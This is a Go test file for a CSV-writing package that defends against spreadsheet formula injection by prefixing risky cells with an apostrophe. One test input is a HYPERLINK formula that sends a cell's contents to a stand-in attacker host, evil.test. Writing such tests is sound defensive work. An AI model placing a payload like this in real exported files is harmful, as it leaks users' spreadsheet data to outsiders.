package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"vecinos/internal/csvsafe"
)

func TestCellsThatStartAFormulaAreWrittenAsText(t *testing.T) {
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b, ';', false)
	in := []string{`=HYPERLINK("http://evil.test/?x="&A1;"Ver acta")`, "+34 600", "-1", "@SUM(A1)", "\tx", "\rx", "Ana", "", "'ya", "1º A"}
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	r := csv.NewReader(&b)
	r.Comma = ';'
	got, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil.test/?x="&A1;"Ver acta")`, "'+34 600", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "Ana", "", "'ya", "1º A"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d: got %q, want %q", i, got[i], want[i])
		}
		if back := csvsafe.Unguard(got[i]); back != in[i] {
			t.Errorf("cell %d reads back as %q, want %q", i, back, in[i])
		}
	}
}

// FuzzGuard: no guarded cell starts a formula, and Unguard gives back what was guarded.
func FuzzGuard(f *testing.F) {
	for _, s := range []string{"=1+1", "-1", "'=x", "''", "'", "", "@", "texto"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		g := csvsafe.Guard(cell)
		if g != "" && (g[0] == '=' || g[0] == '+' || g[0] == '-' || g[0] == '@' || g[0] == '\t' || g[0] == '\r') {
			t.Fatalf("%q guarded as %q", cell, g)
		}
		if csvsafe.Unguard(g) != cell && !(len(cell) > 1 && cell[0] == '\'') {
			t.Fatalf("%q guarded as %q reads back as %q", cell, g, csvsafe.Unguard(g))
		}
	})
}
